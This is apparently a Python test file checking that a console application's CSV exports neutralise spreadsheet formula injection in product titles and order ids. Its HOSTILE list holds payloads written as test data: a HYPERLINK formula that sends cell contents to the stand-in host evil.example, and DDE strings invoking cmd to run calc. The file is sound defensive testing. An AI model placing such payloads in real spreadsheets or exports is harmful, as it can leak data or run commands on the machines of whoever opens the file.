"""Defect 9: text from others must not reach a spreadsheet as a formula.

A product title ``=HYPERLINK(...)`` or an attacker-chosen order id went unchanged into
``catalog export``, the report CSVs and the reconcile CSV. Every CSV the console writes now puts a
``'`` in front of a cell starting with ``= + - @``, tab or CR; numbers stay numbers.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from console.analytics.csvout import write_csvs
from console.analytics.reconcile import Difference, Reconciliation, write_reconciliation_csv
from console.analytics.report import analyze_show
from console.csvcells import safe_cell, unquote_cell
from console.show.catalog import Product, export_catalog, import_catalog
from tests.unit.analytics.scripted import build_scripted_show

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-5+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


def rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def runs_as_formula(cell: str) -> bool:
    """What Excel/LibreOffice do with an unquoted cell: run it if it starts with a formula sign."""
    return cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) and not is_number(cell)


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("text", HOSTILE)
def test_safe_cell_neutralises_formula_text(text: str) -> None:
    cell = safe_cell(text)
    assert cell == "'" + text
    assert not runs_as_formula(cell)
    assert unquote_cell(cell) == text


@pytest.mark.parametrize(
    "value", [-5, 3.25, 0, "-5", "-12.50", "+3", "1234.50", "保温杯", "", None]
)
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


def test_catalog_export_does_not_run_formulas_and_reimports(tmp_path: Path) -> None:
    titles = [t for t in HOSTILE if not t.startswith(("\t", "\r"))]  # import strips blanks
    items = [
        Product(f"P{i}", title, 8900, 5, selling_points=(title,)) for i, title in enumerate(titles)
    ]
    path = tmp_path / "catalog.csv"
    export_catalog(items, path)
    table = rows(path)
    header, body = table[0], table[1:]
    for row in body:
        for cell in row:
            assert not runs_as_formula(cell), (header, row)
    assert [row[header.index("price")] for row in body] == ["89.00"] * len(titles)
    result = import_catalog(path)
    assert result.ok
    assert [p.title for p in result.valid] == [t.strip() for t in titles]


def test_report_csvs_neutralise_titles(tmp_path: Path) -> None:
    analytics = analyze_show(build_scripted_show(tmp_path / "show"))
    analytics.products[0].title = HOSTILE[0]
    analytics.products[1].title = HOSTILE[2]
    paths = write_csvs(analytics, tmp_path / "csv")
    for path in paths:
        for row in rows(path):
            for cell in row:
                assert not runs_as_formula(cell), (path.name, row)
    products = rows(tmp_path / "csv" / "products.csv")
    titles = [r[1] for r in products[1:]]
    assert "'" + HOSTILE[0] in titles and "'" + HOSTILE[2] in titles
    gmv = [r[5] for r in products[1:]]
    assert all(is_number(g) for g in gmv)  # numbers are still numbers


def test_reconcile_csv_neutralises_order_ids(tmp_path: Path) -> None:
    result = Reconciliation(
        differences=[
            Difference("missing_in_journal", HOSTILE[3], "", "¥89.00 ×1", 7),
            Difference("amount", "-5+1", "¥-5.00", "-5", 8),
        ]
    )
    table = rows(write_reconciliation_csv(result, tmp_path / "reconcile.csv"))
    assert table[1][1] == "'" + HOSTILE[3]
    assert table[2][1] == "'-5+1"
    assert table[2][3] == "-5"  # a plain negative number stays a number
    for row in table:
        for cell in row:
            assert not runs_as_formula(cell), row
